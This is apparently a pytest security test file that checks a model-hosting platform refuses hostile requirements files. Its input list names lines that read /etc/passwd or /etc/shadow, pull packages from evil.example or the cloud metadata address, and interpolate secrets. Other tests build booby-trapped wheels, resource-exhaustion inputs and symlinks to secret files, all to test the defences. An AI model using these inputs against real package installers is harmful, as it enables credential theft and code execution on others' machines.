"""Requirements of a model that an attacker wrote: nothing of them runs, and nothing outside is read, while they are
installed."""

import os
import resource
import time
from pathlib import Path

import pytest
from tests.wheels import offline, write_source, write_wheel

from pilotlight.wire.environments import environment
from pilotlight.wire.environments.requirements import RequirementsRefused, find, judge

pytestmark = pytest.mark.security
LINES = (
    "-e .",
    "-e.",
    "--editable=.",
    "--editable ./x",
    ".",
    "./tiny-1.0-py3-none-any.whl",
    "tiny-1.0.tar.gz",
    "/etc/x.whl",
    "tiny @ file:///etc/passwd",
    "tiny@file:///x",
    "file:///x.whl",
    "git+https://evil.example/x",
    "git+ssh://git@x/y.git",
    "tiny @ git+https://evil.example/x",
    "https://evil.example/x.whl",
    "tiny @ https://evil.example/x.whl",
    "-i https://evil.example/simple",
    "-ihttps://evil.example/simple",
    "--index-url=https://evil.example/simple",
    "--only-binary-not-quite x",
    "--extra-index-url http://169.254.169.254/",
    "--find-links /home",
    "-f /home",
    "--no-index",
    "--trusted-host evil.example",
    "-r /etc/passwd",
    "-r../x",
    "-c /etc/shadow",
    "--no-binary :all:",
    "--no-binary=tiny",
    "--config-settings x=y",
    "tiny --global-option=x",
    "tiny --install-option=x",
    "${HOME}",
    "tiny==${SECRET}",
    "tiny; python_version > '3' @ file:///x",
    "tiny\t@\tfile:///x",
    "tiny\x0b-e .",
    "../x",
    "tiny --hash=sha256:00 -e .",
    "--python=/tmp/x",
    "tiny\\\n@ file:///x",
)


@pytest.mark.parametrize("line", LINES)
def test_a_line_that_is_no_name_of_a_package_is_refused(line: str) -> None:
    with pytest.raises(RequirementsRefused, match=r"requirements\.txt, line"):
        judge(f"smaller\n{line}\n".encode(), "requirements.txt")


@pytest.mark.parametrize("line", ["a{}@", "a=={}@", "a; x{}@"])
@pytest.mark.parametrize("space", [" ", "\t", "\\\n"])
def test_a_long_run_of_spaces_does_not_stall_the_platform(line: str, space: str) -> None:
    """400 of them took 25 s, with the fourth power of their number."""
    before = time.process_time()
    with pytest.raises(RequirementsRefused):
        judge(line.format(space * 50_000).encode(), "requirements.txt")
    assert time.process_time() - before < 5


@pytest.mark.parametrize("project", ["tool = 1", "[tool]\nuv = 1", f"a = {'[' * 100_000}", "a = "])
def test_a_project_that_cannot_be_read_is_refused(tmp_path: Path, project: str) -> None:
    for name, text in {"model.py": "", "uv.lock": "version = 1", "pyproject.toml": project}.items():
        (tmp_path / name).write_text(text)
    requirements = find(str(tmp_path))
    assert requirements is not None
    with pytest.raises(RequirementsRefused, match=r"pyproject\.toml cannot be read"):
        environment.ensure(requirements, tmp_path / "environments", os.environ, print)


def test_no_code_of_a_package_runs_while_it_is_installed(tmp_path: Path) -> None:
    wheels, model, ran = tmp_path / "wheels", tmp_path / "model", tmp_path / "ran"
    model.mkdir()
    (model / "model.py").write_text("")
    attack = f"open({str(ran)!r}, 'w').write('x')"
    names = ("evil.pth", "sitecustomize.py", "usercustomize.py", "encodings.py", "compileall.py")
    write_wheel(wheels, "evil", source=attack, files=dict.fromkeys(names, f"import builtins; {attack}\n"))
    write_source(wheels, "setup", attack)
    environ = {**os.environ, **offline(wheels)}
    (model / "requirements.txt").write_text("setup")
    requirements = find(str(model))
    assert requirements is not None
    with pytest.raises(RequirementsRefused, match="setup has no wheel"):
        environment.ensure(requirements, tmp_path / "environments", environ, print)
    (model / "requirements.txt").write_text("evil")
    requirements = find(str(model))
    assert requirements is not None
    built = environment.ensure(requirements, tmp_path / "environments", environ, print)
    assert list(built.glob("lib/*/site-packages/evil.pth"))
    assert not ran.exists()


def test_a_wheel_of_a_few_bytes_does_not_take_the_memory_of_the_machine(tmp_path: Path) -> None:
    """A list of 12 million numbers, 30 KB in a wheel, took 8.7 GiB and two minutes when it was compiled."""
    wheels, model = tmp_path / "wheels", tmp_path / "model"
    model.mkdir()
    (model / "model.py").write_text("")
    (model / "requirements.txt").write_text("evil")
    write_wheel(wheels, "evil", files={"evil_numbers.py": f"x = [{'1,' * 5_000_000}]"})
    requirements = find(str(model))
    assert requirements is not None
    before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
    built = environment.ensure(requirements, tmp_path / "environments", {**os.environ, **offline(wheels)}, print)
    compiled = [path.name.partition(".")[0] for path in built.glob("lib/*/site-packages/__pycache__/evil*")]
    assert compiled == ["evil"]
    assert resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss <= max(before, 2 << 20)  # KiB


def test_the_environment_of_others_is_not_configured_by_the_model(tmp_path: Path) -> None:
    """uv reads its configuration from the folders above its working directory; none of them is the model's."""
    wheels, model = tmp_path / "wheels", tmp_path / "model"
    write_wheel(wheels, "tiny")
    model.mkdir()
    for name, text in {
        "model.py": "", "requirements.txt": "tiny", "uv.toml": 'find-links = ["/etc"]\nno-index = nonsense',
        "pyproject.toml": '[tool.uv]\nindex-url = "https://evil.example/simple"', ".python-version": "2.7",
    }.items():  # fmt: skip
        (model / name).write_text(text)
    requirements = find(str(model))
    assert requirements is not None
    environment.ensure(requirements, tmp_path / "environments", {**os.environ, **offline(wheels)}, print)


@pytest.mark.parametrize("linked", ["requirements.txt", "1"])
def test_a_link_shows_no_file_of_the_machine(tmp_path: Path, linked: str) -> None:
    secret, model = tmp_path / "secret", tmp_path / "model"
    secret.mkdir()
    (secret / "requirements.txt").write_text("root:secret@password")
    (secret / "model.py").write_text("")
    model.mkdir()
    if linked == "1":
        (model / "1").symlink_to(secret)
        assert find(str(model), links=False) is None
        return
    (model / "model.py").write_text("")
    (model / "requirements.txt").symlink_to(secret / "requirements.txt")
    with pytest.raises(RequirementsRefused) as refused:
        find(str(model), links=False)
    assert "password" not in str(refused.value)
